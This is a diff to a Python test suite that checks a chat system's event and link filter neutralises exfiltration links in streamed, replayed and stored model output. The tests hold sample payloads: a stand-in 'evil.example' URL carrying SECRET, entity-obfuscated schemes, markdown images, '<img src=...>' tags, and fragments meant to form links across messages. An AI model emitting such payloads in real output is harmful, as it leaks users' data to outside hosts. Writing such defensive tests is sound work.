@@ -3,12 +3,16 @@
 from typing import TYPE_CHECKING, Annotated, Literal
 
 import pytest
+from hypothesis import given
+from hypothesis import strategies as st
 from typing_extensions import TypedDict
 
 from api.events.filters import EventFilter, ReplayFilter
 from api.events.frames import Event, Frame, encode
-from graph.events import EVENTS, FILTERED, KEY, TextDelta, definitions_of
-from graph.link_filter import HostAllowlist, LinkFilter
+from graph.events import EVENTS, KEY, TextDelta, definitions_of
+from graph.link_allowlist import HostAllowlist
+from graph.link_filter import LinkFilter
+from tests.rendering import Reading, read_as_people_do
 
 if TYPE_CHECKING:
     from tests.e2e.person import Person
@@ -16,8 +20,26 @@ if TYPE_CHECKING:
 EVIL = "https://evil.example/x?d=SECRET"
 
 
+PIECES = [
+    "[a]",
+    "(",
+    f"({EVIL})",
+    "![",
+    "]",
+    "`",
+    "```\n",
+    "\n",
+    EVIL,
+    "http:/",
+    "/evil.example/x",
+    "<img",
+    " src=//e.com>",
+    "w",
+]
+
+
 def event_filter() -> EventFilter:
-    return EventFilter(LinkFilter(HostAllowlist(), "en"))
+    return EventFilter(LinkFilter(HostAllowlist()))
 
 
 def test_a_link_does_not_leave_live_nor_when_it_is_read_again(alice: "Person") -> None:
@@ -25,12 +47,26 @@ def test_a_link_does_not_leave_live_nor_when_it_is_read_again(alice: "Person") -
     link = EVIL.replace("https", "h&#116;tps")
     with alice.chat(f"say ok ![a]({link}) [b]({link}) <img src={link}> end") as turn:
         turn.finish()
-    assert "SECRET" not in turn.text
+    assert read_as_people_do(turn.text) == Reading()
     assert turn.text.startswith("ok [a]")
     assert turn.text.endswith(" end")
     with alice.follow(turn.seen[0]["run_id"]) as again:
         again.finish()
     assert again.text == turn.text
+
+
+def test_nothing_is_live_in_the_stream_the_replay_and_the_thread(alice: "Person") -> None:
+    hostile = "mailto:!&#91;x&#93;(h&#116;tp://h/SECRET) `` ![x](h&#116;tp://h/SECRET) <img src=//h.example/SECRET>"
+    with alice.chat(f"say {hostile}") as turn:
+        turn.finish()
+    with alice.follow(turn.seen[0]["run_id"]) as again:
+        again.finish()
+    thread = alice.http.get(f"/api/threads/{turn.seen[0]['thread_id']}").json()
+    assert [message["role"] for message in thread["messages"]] == ["user", "assistant"]
+    shown = {turn.text, again.text, thread["messages"][1]["text"], thread["title"]}
+    assert len(shown) == 2
+    assert [read_as_people_do(text) for text in shown] == [Reading(), Reading()]
+    assert all("h/SECRET" in text for text in shown)
 
 
 def test_what_the_person_wrote_themselves_may_come_back(alice: "Person") -> None:
@@ -54,8 +90,7 @@ def test_a_link_can_not_be_made_of_two_messages() -> None:
         *said.end(),
     ]
     text = "".join(event["text"] for event in events)
-    assert "](" not in text
-    assert "SECRET" not in text
+    assert read_as_people_do(text) == Reading()
 
 
 def test_titles_and_results_of_steps_and_texts_of_the_graph_are_cleaned_and_data_is_not() -> None:
@@ -67,16 +102,45 @@ def test_titles_and_results_of_steps_and_texts_of_the_graph_are_cleaned_and_data
         *said.event({"type": "content", "text": link}),
         *said.event({"type": "tool_call_start", "tool_call_id": "1", "name": "x", "args": {"content": link}}),
     ]
-    assert "SECRET" not in str(events[:3])
+    assert "](" not in str(events[:3])
     assert events[3]["args"] == {"content": link}
+
+
+def test_texts_of_two_messages_do_not_run_together() -> None:
+    said = event_filter()
+    events = [
+        *said.delta(TextDelta("m1", "First answer.")),
+        *said.event({"type": "tool_progress", "tool_call_id": "1", "name": "x", "status": "done"}),
+        *said.delta(TextDelta("m1", " Its end")),
+        *said.delta(TextDelta("m2", "Second")),
+        *said.event({"type": "content", "text": "Third\n"}),
+        *said.delta(TextDelta("m3", "Fourth")),
+        *said.end(),
+    ]
+    assert "".join(event.get("text", "") for event in events) == "First answer. Its end\n\nSecond\n\nThird\nFourth"
+
+
+@given(st.lists(st.sampled_from(PIECES), max_size=12), st.data())
+def test_the_content_of_a_run_is_inert_however_messages_and_events_follow_each_other(
+    pieces: list[str], data: st.DataObject
+) -> None:
+    said, events = event_filter(), list[Event]()
+    for piece in pieces:
+        if data.draw(st.integers(0, 3)) == 0:
+            events += said.event({"type": "content", "text": piece})
+        else:
+            events += said.delta(TextDelta(data.draw(st.sampled_from(["m1", "m2"])), piece))
+    events += said.end()
+    text = "".join(event["text"] for event in events)
+    assert read_as_people_do(text) == Reading(), text
 
 
 def text(delta: str) -> Event:
     return {"type": "content", "text": delta}
 
 
-def replay(*logged: Event) -> ReplayFilter:
-    return ReplayFilter([Frame(number, event["type"], encode(event)) for number, event in enumerate(logged, 1)])
+def replay(*logged: Event, said: str = "") -> ReplayFilter:
+    return ReplayFilter([Frame(number, event["type"], encode(event)) for number, event in enumerate(logged, 1)], said)
 
 
 def heard(replayed: ReplayFilter, *deltas: str) -> list[Event]:
@@ -117,8 +181,46 @@ def test_the_whole_text_again_is_nothing_new() -> None:
     assert list(replayed.event(START)) == [START]
 
 
-def test_only_the_text_after_the_last_other_event_can_repeat() -> None:
-    assert heard(replay(text("one"), START, END), "one") == [text("one")]
+def test_text_of_the_thread_is_past_and_may_be_said_again() -> None:
+    assert heard(replay(text("one"), START, END, said="one"), "one") == [text("one")]
+    assert heard(replay(text("one"), said="one"), "one") == [text("one")]
+
+
+def test_text_that_is_not_in_the_thread_is_repeated_though_events_followed_it() -> None:
+    replayed = replay(text("one"), START, END, text("two"), START, said="one")
+    assert heard(replayed, "t", "wo") == []
+    assert list(replayed.event(START)) == []
+    assert list(replayed.end()) == []
+    assert heard(replayed, "three") == [text("three")]
+
+
+def test_text_that_began_anew_counts_without_what_it_made_void() -> None:
+    anew: Event = {**text("three"), "restarts": True}
+    assert heard(replay(START, text("one"), anew, text(" four"), said="three"), " four", "!") == [text("!")]
+
+
+def test_text_that_stands_otherwise_in_the_thread_is_compared_since_the_last_event() -> None:
+    assert heard(replay(text("(link removed)"), START, text("two"), said="(gone)"), "two!") == [text("!")]
+
+
+def test_events_after_a_text_that_repeats_are_dropped_too() -> None:
+    step: Event = {"type": "task_step_update", "step_id": "1", "status": "in-progress"}
+    replayed = replay(text("one"), step)
+    assert heard(replayed, "one") == []
+    assert list(replayed.end()) == list(replayed.event(step)) == []
+    assert list(replayed.event({**step, "step_id": "2"})) != []
+
+
+def test_a_text_that_no_model_made_is_not_said_twice() -> None:
+    said = EventFilter(LinkFilter(HostAllowlist()), [Frame(1, "content", encode(text("All done.")))])
+    assert list(said.event(text("All done."))) == []
+    assert list(said.event(text("All done."))) == [text("\n\nAll done.")]
+
+
+def test_nothing_is_held_back_when_a_message_ends() -> None:
+    said = event_filter()
+    events = [*said.delta(TextDelta("m1", "see [a](")), *said.delta(TextDelta(None, ""))]
+    assert "".join(event["text"] for event in events) == "see [a] ("
 
 
 def test_events_that_clients_have_are_dropped_until_the_first_new_one() -> None:
@@ -139,7 +241,7 @@ def test_a_call_starts_and_ends_once_though_it_took_another_time() -> None:
 class ShoutEvent(TypedDict):
     type: Literal["shout"]
     shout_id: Annotated[str, KEY]
-    words: Annotated[str, FILTERED]
+    words: str
 
 
 def test_a_new_event_is_filtered_and_sent_once_by_its_definition_alone(monkeypatch: pytest.MonkeyPatch) -> None:
@@ -147,6 +249,6 @@ def test_a_new_event_is_filtered_and_sent_once_by_its_definition_alone(monkeypat
         monkeypatch.setitem(EVENTS, definition.name, definition)
     shout: Event = {"type": "shout", "shout_id": "1", "words": f"[a]({EVIL})"}
     (sent,) = event_filter().event(shout)
-    assert "SECRET" not in sent["words"]
+    assert sent["words"] == f"[a] (`{EVIL}`)"
     assert list(replay(sent).event({**shout, "words": "another"})) == []
     assert list(replay(sent).event({**shout, "shout_id": "2"})) != []
